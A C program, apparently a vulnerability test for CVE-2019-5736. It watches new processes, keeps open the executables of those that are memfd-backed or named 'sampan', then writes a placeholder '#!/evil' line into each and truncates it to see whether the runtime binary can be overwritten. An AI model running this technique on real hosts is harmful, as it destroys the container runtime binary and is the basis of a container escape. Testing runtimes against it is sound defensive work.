/*
 * CVE-2019-5736: opens the program of every process that appears, and afterwards writes to it.
 *
 * Runs until there is a file /tmp/stop. Prints "caught" when it holds a program that is none of the image's, and at the end how many of those it
 * held, and how many of them it could change.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HELD = 256, AHEAD = 8 };

static int held[HELD];
static int count;

/* Keeps the program open if it came from outside: true once for each process. */
static int hold(int pid)
{
	char path[64], name[256];
	ssize_t length;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	length = readlink(path, name, sizeof(name) - 1);
	name[length < 0 ? 0 : length] = 0;
	if (count < HELD && (strstr(name, "memfd:") || strstr(name, "sampan"))) {
		held[count++] = fd;
		if (count == 1) {
			puts("caught");
			fflush(stdout);
		}
		return 1;
	}
	close(fd);
	return 0;
}

static int changed(int fd)
{
	char path[64];
	int writable, done;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	writable = open(path, O_WRONLY | O_CLOEXEC);
	if (writable < 0)
		return 0;
	done = pwrite(writable, "#!/evil\n", 8, 0) > 0;
	done |= ftruncate(writable, 0) == 0;
	close(writable);
	return done;
}

int main(void)
{
	int newest = getpid(), known = 0, written = 0;

	puts("ready");
	fflush(stdout);
	while (access("/tmp/stop", F_OK) != 0) {
		for (int pid = newest; pid < newest + AHEAD; pid++) {
			char path[32];

			if (pid != known && hold(pid))
				known = pid;
			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (pid > newest && access(path, F_OK) == 0)
				newest = pid;
		}
	}
	for (int i = 0; i < count; i++)
		written += changed(held[i]);
	printf("held %d changed %d\n", count, written);
	return 0;
}
